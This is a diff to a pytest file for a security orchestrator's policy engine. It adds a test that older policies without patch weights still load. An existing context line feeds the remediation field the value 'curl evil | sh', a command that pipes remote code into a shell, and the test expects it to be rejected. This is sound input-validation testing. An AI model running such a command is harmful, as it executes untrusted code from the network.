@@ -7,7 +7,7 @@ from __future__ import annotations
 import pytest
 
 from orchestrator.policy.evaluate import DecisionOutcome, evaluate
-from orchestrator.policy.model import load_policy
+from orchestrator.policy.model import PolicyDocument, load_policy
 from tests.orchestrator.policy.policy_factories import facts, with_base
 from tools.actions import ActionKind, Patch, Unpatch
 from tools.models import AssetKind, Criticality
@@ -59,3 +59,16 @@ def test_patch_parameters_are_validated_ids() -> None:
         Patch(target="WEB01", cve="log4shell", remediation="KB5008212")
     with pytest.raises(ValueError, match="remediation"):
         Patch(target="WEB01", cve="CVE-2021-44228", remediation="curl evil | sh")
+
+
+def test_a_policy_written_before_patching_existed_still_loads() -> None:
+    # recorded workflow inputs (histories, workflows in flight) carry such policies: refusing them
+    # would fail every replay; they get the packaged weights of the kinds added since
+    packaged = load_policy(None).model_dump(mode="json")
+    for kind in ("patch", "unpatch"):
+        del packaged["weights"]["base"][kind]
+    del packaged["always_approve"]
+    older = PolicyDocument.model_validate(packaged)
+    assert older.weights.base[ActionKind.PATCH] == 30
+    assert older.weights.base[ActionKind.UNPATCH] == 20
+    assert older.always_approve == {}
